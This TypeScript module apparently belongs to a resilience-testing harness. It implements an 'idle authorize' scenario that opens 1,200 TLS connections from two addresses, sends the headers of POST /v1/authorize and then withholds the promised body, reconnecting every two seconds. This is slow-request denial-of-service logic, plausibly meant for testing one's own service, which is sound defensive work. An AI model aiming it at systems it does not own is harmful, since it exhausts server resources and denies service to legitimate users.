// Begins POST /v1/authorize on 1,200 connections from two addresses and never sends the body.
import type { Attack } from '../attack.js'
import { virtualUsers } from '../virtual-users.js'

const idle = 1_200
/** Connections that are cut off come back every two seconds: 600 handshakes a second at most. */
const roundMs = 2_000

export const idleAuthorize: Attack = {
  name: 'idle authorize',
  about: '1,200 connections from two addresses begin POST /v1/authorize and send no body',
  needsCredentials: false,
  async run(parts) {
    const { wire, count, addresses } = parts
    const head = [
      'POST /v1/authorize HTTP/1.1',
      `Host: ${wire.host}`,
      'Content-Type: application/x-www-form-urlencoded',
      'Content-Length: 100',
    ]
    const two = { ...parts, addresses: addresses.slice(0, 2) }
    await virtualUsers(
      two,
      idle,
      async (from) => {
        const socket = await wire.openTls(from)
        if (socket === undefined) return count('not let in')
        socket.write(`${head.join('\r\n')}\r\n\r\n`)
        count('begun')
        await wire.closed(socket)
      },
      roundMs,
    )
  },
}
